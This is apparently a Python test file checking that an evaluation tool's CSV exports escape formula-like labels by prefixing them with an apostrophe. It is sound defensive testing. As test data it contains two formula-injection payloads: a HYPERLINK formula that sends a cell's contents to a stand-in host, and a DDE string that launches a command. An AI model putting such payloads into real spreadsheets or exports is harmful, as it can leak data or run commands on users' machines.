"""Model labels and criterion names that look like spreadsheet formulas reach the CSV tables as text."""

import csv
import io

from evaluation.exports import evaluation_matrix_csv, study_position_balance_csv

LABEL = '=HYPERLINK("http://x"&B2,"y")'


def test_evaluation_table_escapes_a_formula_label_and_keeps_numbers():
    results = {
        "models": [LABEL, "base"],
        "matrices": {"@empathy": {"win_rate": [[None, -0.25], [0.75, None]]}},
    }
    provenance = {"models": [{"label": LABEL, "policy_runs": [{"id": 1, "name": "-run", "method": "dpo"}]}]}
    table = evaluation_matrix_csv(results=results, provenance=provenance).decode()
    rows = list(csv.reader(io.StringIO(table)))
    assert rows[1] == ["'@empathy", "'" + LABEL, "base", "-0.25", "#1 -run (dpo)", ""]
    assert rows[2][1:3] == ["base", "'" + LABEL]


def test_study_table_escapes_a_formula_clinician_label():
    balance = {"n_a": 3, "n_b": 1, "n_ties": 0, "proportion_a": 0.75, "ci_low": 0.3, "ci_high": 0.95}
    results = {"position_balance": {"+cmd|' /C calc'!A0": {**balance, "p_value": 0.6}}}
    rows = list(csv.reader(io.StringIO(study_position_balance_csv(results=results).decode())))
    assert rows[1][0] == "'+cmd|' /C calc'!A0"
